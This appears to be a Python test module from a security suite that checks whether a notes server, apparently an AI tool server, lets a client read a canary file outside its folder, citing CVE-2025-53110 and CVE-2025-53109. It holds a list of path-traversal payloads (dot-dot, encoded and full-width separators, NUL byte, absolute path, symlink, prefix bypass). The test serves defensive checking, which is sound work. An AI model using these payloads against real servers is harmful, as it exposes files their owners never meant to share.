"""Steals: a file that is not a note, by a name that leads out of the folder.

`..` is the obvious way. An absolute path replaces the folder in Python's `folder / name`.
Comparing paths as strings lets "/notes-private" pass, because it begins with "/notes"
(CVE-2025-53110), and a symbolic link in the folder may lead anywhere (CVE-2025-53109).
"""

import json

from attacks.finding import Finding
from attacks.target import NotTried, Refused, Server, Stream, call

AGAINST = "server"
CASE = "CVE-2025-53110"


async def attack(server: Server) -> Finding:
    if server.canary is None or server.notes is None:
        raise NotTried("needs a server that it started itself")
    outside = server.notes.parent / "canary.txt"
    names = {
        "..": "../canary.txt",
        "inner ..": "welcome.txt/../../canary.txt",
        "prefix": "../notes-private/canary.txt",
        "symlink": "shortcut.txt",
        "absolute": str(outside),
        "NUL": "../canary.txt\0.txt",
        "%2f": "..%2fcanary.txt",
        "%252f": "..%252fcanary.txt",
        "full width": "．．／canary.txt",
        "backslash": "..\\canary.txt",
    }
    async with server.open(server.alice) as alice:
        await alice.initialize()
        if "Welcome" not in await read_note(alice, "welcome.txt"):
            raise Refused("a note that may be read was not read")
        replies = {what: await read_note(alice, name) for what, name in names.items()}
    read = [what for what, reply in replies.items() if server.canary in reply]
    if read:
        return Finding(True, f"canary.txt was read by {', '.join(read)}")
    refused = sum("failed" in reply for reply in replies.values())
    return Finding(False, f"{refused} of {len(names)} names refused, welcome.txt was read")


async def read_note(stream: Stream, name: str) -> str:
    """What the tool says, as text or as an error."""
    await stream.send(call(name, "read_note", name=name))
    reply = json.loads((await stream.reply(name)).data)
    if "error" in reply:
        return f"failed: {reply['error']['message']}"
    said = reply["result"]["content"][0]["text"]
    return f"failed: {said}" if reply["result"]["isError"] else said
